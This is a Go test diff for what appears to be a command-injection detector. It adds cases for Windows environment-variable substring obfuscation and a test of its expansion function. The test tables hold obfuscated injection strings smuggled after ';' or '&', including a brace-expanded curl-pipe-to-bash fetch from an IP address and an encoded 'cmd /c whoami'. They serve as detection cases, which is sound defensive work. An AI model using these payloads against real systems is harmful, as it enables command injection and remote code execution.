@@ -460,6 +460,8 @@ func TestEvidenceShapes(t *testing.T) {
 		{"x;/???/??t /???/p??s??", true},
 		{"example.com;{curl,-s,http://203.0.113.5/x.sh}|{bash,-i}", true},
 		{"fields=id,name;friends={id,name}", false},
+		{"log.txt&%COMSPEC:~-7,3%%ProgramFiles:~10,1%/c%ProgramFiles:~10,1%whoami", true},
+		{"Progress: 40%, ETA ~10 min, 60% left", false},
 		{"rock'n'roll tour 2024", false},
 		{"Is it really? ???", false},
 		// A lone ampersand between English words is prose, even when the
@@ -517,6 +519,29 @@ func TestMarkupEntities(t *testing.T) {
 	for _, tc := range tests {
 		if got := markupEntities(tc.s); got != tc.want {
 			t.Errorf("markupEntities(%q) = %d, want %d", tc.s, got, tc.want)
+		}
+	}
+}
+
+func TestExpandCmdSubstrings(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		in, want string
+		ok       bool
+	}{
+		{"%COMSPEC:~-7,3%", "cmd", true},
+		{"a&%comspec:~-7,3%%ProgramFiles:~10,1%/c%ProgramFiles:~10,1%whoami", "a&cmd /c whoami", true},
+		{"%SystemRoot:~3%", "WINDOWS", true},
+		{"%PATHEXT:~0,-49%", ".COM", true},
+		{"%OS:~99,2%", "", true},
+		{"%MYAPP:~0,3%", "", false},
+		{"50%:~ off", "", false},
+		{"%COMSPEC:~x,3%", "", false},
+	}
+	for _, tc := range tests {
+		got, ok := expandCmdSubstrings(tc.in)
+		if got != tc.want || ok != tc.ok {
+			t.Errorf("expandCmdSubstrings(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
 		}
 	}
 }
